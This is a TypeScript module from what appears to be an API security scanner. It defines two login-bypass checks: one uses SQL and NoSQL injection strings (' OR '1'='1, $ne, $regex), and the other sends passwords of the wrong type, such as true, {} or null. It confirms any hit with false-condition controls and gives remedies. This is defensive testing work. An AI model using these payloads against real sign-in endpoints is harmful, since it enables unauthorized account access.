/**
 * Signing in without the password: by changing the query behind it, or with values of another type.
 *
 * @module
 */

import type { Call } from "../../../wire/exchange.ts";
import type { World } from "../../../world/world.ts";
import { held, inconclusive, notApplicable, vulnerable, type About } from "../../outcomes.ts";
import { defineTechnique, type Outcome } from "../../technique.ts";
import {
  absent,
  anyPlace,
  callOfRecipe,
  letsIn,
  readLogin,
  recipeWith,
  sacrificialAccount,
  type LoginTry,
  type OwnAccount,
} from "../accounts.ts";
import type { Proof } from "../proof.ts";
import { freshWord } from "../token-forging/own-keys.ts";
import { isLimited, targetOf, wrongPassword } from "./limit.ts";

/** A sign-in that should fail, and the same with a condition that is false. */
interface Bypass {
  readonly words: string;
  readonly name?: unknown;
  readonly password?: unknown;
  readonly falsely: { readonly name?: unknown; readonly password?: unknown };
}

function injections({ name }: OwnAccount, word: string): readonly Bypass[] {
  const always = ["' OR '1'='1", "' OR 1=1 -- ", '" OR "1"="1', "') OR ('1'='1", "' OR 1=1#"];
  const never = ["' AND '1'='2", "' AND 1=2 -- ", '" AND "1"="2', "') AND ('1'='2", "' AND 1=2#"];
  const wrong = wrongPassword(3);
  return [
    ...[{ $ne: null }, { $ne: "x" }, { $gt: "" }, { $regex: ".*" }, { $exists: true }].map(
      (password) => ({
        words: `password ${JSON.stringify(password)}`,
        password: password as unknown,
        falsely: { password: { $eq: word } },
      }),
    ),
    {
      words: 'name and password {"$ne":null}',
      name: { $ne: null },
      password: { $ne: null },
      falsely: { name: { $eq: word }, password: { $eq: word } },
    },
    ...["' -- ", "'#", "'/*", '" -- '].map((end) => ({
      words: `name with ${end.trim()} behind`,
      name: `${name}${end}`,
      password: wrong,
      falsely: { name: `${word}${end}`, password: wrong },
    })),
    ...always.map((condition, index) => ({
      words: `name ${condition.trim()}`,
      name: `${word}${condition}`,
      password: wrong,
      falsely: { name: `${word}${never[index] ?? ""}`, password: wrong },
    })),
    ...always.slice(0, 3).map((condition, index) => ({
      words: `password ${condition.trim()}`,
      password: `x${condition}`,
      falsely: { password: `x${never[index] ?? ""}` },
    })),
    { words: "password *", password: "*", falsely: { password: word } },
  ];
}

function juggles(): readonly Bypass[] {
  const values: readonly unknown[] = [true, 0, 1, {}, [], null, [[]], { length: 1 }, ""];
  const wrong = wrongPassword(4);
  return [
    ...values.map((password) => ({
      words: `password ${JSON.stringify(password)}`,
      password,
      falsely: { password: wrong },
    })),
    { words: "no password", password: absent, falsely: { password: wrong } },
  ];
}

async function attempt(
  world: World,
  { recipe }: OwnAccount,
  values: Pick<Bypass, "name" | "password">,
  form: boolean,
): Promise<LoginTry> {
  const changed = recipeWith(recipe, values);
  const made = callOfRecipe(world, changed);
  const exchange = await world.send(form ? asForm(made, changed.body) : made, {
    patient: false,
    renew: false,
  });
  return readLogin(world, changed, exchange);
}

/** `password[$ne]=x`, as some parsers of forms read an object. */
function asForm(call: Call, body: unknown): Call {
  const entries = typeof body === "object" && body !== null ? Object.entries(body) : [];
  const pairs = entries.flatMap(([name, value]): [string, string][] =>
    typeof value === "object" && value !== null
      ? Object.entries(value).map(([key, one]) => [`${name}[${key}]`, String(one)])
      : [[name, String(value)]],
  );
  const headers = call.headers.filter(([name]) => name.toLowerCase() !== "content-type");
  return {
    ...call,
    body: new URLSearchParams(pairs).toString(),
    headers: [...headers, ["content-type", "application/x-www-form-urlencoded"]],
  };
}

async function tryBypasses(
  world: World,
  account: OwnAccount & { readonly fresh: boolean },
  bypasses: readonly Bypass[],
  meaning: string,
): Promise<Outcome> {
  const target = targetOf(world, account.recipe);
  const place = await anyPlace(world);
  if (place === undefined) return inconclusive({ target }, "nothing shows whether a token works");
  const plain = await attempt(world, account, { password: wrongPassword(5) }, false);
  if (plain.carried !== undefined)
    return inconclusive({ target, evidence: [plain.exchange] }, "a wrong password gave a token");
  let tried = 0;
  for (const form of [false, true])
    for (const bypass of bypasses) {
      if (form && !/\$/.test(bypass.words)) continue;
      const first = await attempt(world, account, bypass, form);
      tried += 1;
      if (first.carried === undefined) {
        if (isLimited(first.exchange, plain.exchange) === undefined) continue;
        return inconclusive(
          { target, evidence: [plain.exchange, first.exchange] },
          `a limit came after ${tried} of ${bypasses.length}`,
        );
      }
      const outcome = await confirm(world, {
        account,
        bypass,
        form,
        place,
        first,
        target,
        meaning,
      });
      if (outcome !== undefined) return outcome;
    }
  return held(
    { target, variant: `${tried} variants`, evidence: [plain.exchange] },
    "refused as a wrong password is",
  );
}

interface Confirming {
  readonly account: OwnAccount;
  readonly bypass: Bypass;
  readonly form: boolean;
  readonly place: Proof;
  readonly first: LoginTry;
  readonly target: string;
  readonly meaning: string;
}

async function confirm(
  world: World,
  { account, bypass, form, place, first, target, meaning }: Confirming,
): Promise<Outcome | undefined> {
  const works = await letsIn(world, place, first);
  const falsely = await attempt(world, account, bypass.falsely, form);
  const again = await attempt(world, account, bypass, form);
  const variant = form ? `${bypass.words}, as a form` : bypass.words;
  const about: About = {
    target,
    variant,
    evidence: [first.exchange, works, falsely.exchange, again.exchange],
  };
  if (works === undefined || again.carried === undefined || falsely.carried !== undefined)
    return undefined;
  return vulnerable(
    about,
    `${meaning} (${variant}); the token works at ${place.operation.key}, and the same with a false condition is refused`,
  );
}

/** C-18: a query that is changed. */
export const signInInjection = defineTechnique({
  id: "C-18",
  risk: "API2",
  title: "Sign-in that a changed query opens",
  severity: "critical",
  phase: "credential",
  needs: ["a principal"],
  oracle: "O-AUTH",
  guards: ["G-POS", "G-NEG", "G-REPEAT"],
  hole: "sign-in-bypass",
  remedy: "Accept only texts as name and password, and give them to the database as parameters.",
  run: async function* (world) {
    const account = await sacrificialAccount(world);
    if (account === undefined) {
      yield notApplicable({ target: "" }, "nobody signs in with a password");
      return;
    }
    const all = injections(
      account,
      freshWord(() => world.random()),
    );
    // On accounts of the file only what names nobody, and little else.
    const some = account.fresh
      ? all
      : all.filter(({ name }, index) => name !== undefined || index < 2);
    yield await tryBypasses(world, account, some, "the query behind the sign-in is changed");
  },
});

/** C-19: values of another type. */
export const signInJuggling = defineTechnique({
  id: "C-19",
  risk: "API2",
  title: "Sign-in that another type opens",
  severity: "critical",
  phase: "credential",
  needs: ["a principal"],
  oracle: "O-AUTH",
  guards: ["G-POS", "G-NEG", "G-REPEAT"],
  hole: "sign-in-bypass",
  remedy: "Refuse a name or password that is not a text that is not empty.",
  run: async function* (world) {
    const account = await sacrificialAccount(world);
    if (account === undefined || account.recipe.body === undefined) {
      yield notApplicable(
        { target: "" },
        "no sign-in takes a password that could be of another type",
      );
      return;
    }
    const values = account.fresh ? juggles() : juggles().slice(0, 6);
    const meaning = "the sign-in takes a value of another type for the password";
    yield await tryBypasses(world, account, values, meaning);
  },
});
